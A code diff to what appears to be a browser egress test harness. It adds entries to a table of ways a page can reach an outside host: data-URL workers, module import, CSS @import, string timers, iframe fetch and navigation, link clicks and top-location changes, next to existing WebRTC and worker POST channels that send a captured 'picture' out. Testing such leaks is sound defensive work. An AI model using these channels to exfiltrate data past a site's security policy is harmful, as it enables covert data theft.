@@ -17,6 +17,7 @@ const put = (name, set) => {
   document.body.append(element);
   return element;
 };
+const soon = () => new Promise((done) => setTimeout(done, 300));
 const blob = (code) => URL.createObjectURL(new Blob([code], { type: "text/javascript" }));
 const ring = async (Connection) => {
   const line = new Connection({ iceServers: [{ urls: `stun:${host}` }] });
@@ -41,17 +42,27 @@ WAYS = {
     "ping": "put('a', { href: '#there', ping: to }).click()",
     "blob worker": "const one = new Worker(blob(`fetch('${to}').finally(() => postMessage(0))`));"
     " await new Promise((done) => { one.onmessage = one.onerror = done; })",
+    "data worker": "new Worker(`data:text/javascript,fetch('${to}')`); await soon()",
+    "module": "await import(to)",
+    "object": "put('object', { data: to }); await soon()",
+    "styles of its own": "put('style', { textContent: `@import '${to}';` }); await soon()",
+    "text as code": "setTimeout(`fetch('${to}')`); await soon()",
+    "frame with words": "put('iframe', { srcdoc: `<img src=${to}>` }); await soon()",
+    "fetch of a frame": "await put('iframe', {}).contentWindow.fetch(to, { mode: 'no-cors' })",
+    "place of a frame": "put('iframe', {}).contentWindow.location = to; await soon()",
     "own house": "await fetch('/elsewhere?' + way)",
     "form": "const form = put('form', { action: to, method: 'post', enctype: 'multipart/form-data' }); form.submit()",
     "window": "window.open(to)",
     "refresh": "put('meta', { httpEquiv: 'refresh', content: '0;url=' + to })",
     "location": "location.href = to",
+    "click": "put('a', { href: to }).click()",
+    "frame that leads": "put('iframe', {}).contentWindow.top.location = to",
     "connection": "await ring(RTCPeerConnection)",
     "connection of a frame": "await ring(put('iframe', {}).contentWindow.RTCPeerConnection)",
 }
 WELL = b"HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
 #: These lead the page away, or would: whatever comes after needs a fresh one.
-LEADING = frozenset({"form", "window", "refresh", "location"})
+LEADING = frozenset({"form", "window", "refresh", "location", "click", "frame that leads"})
 #: The same from a worker.
 OF_A_WORKER = {
     "worker fetch": "await fetch(to, { method: 'POST', mode: 'no-cors', body: picture })",
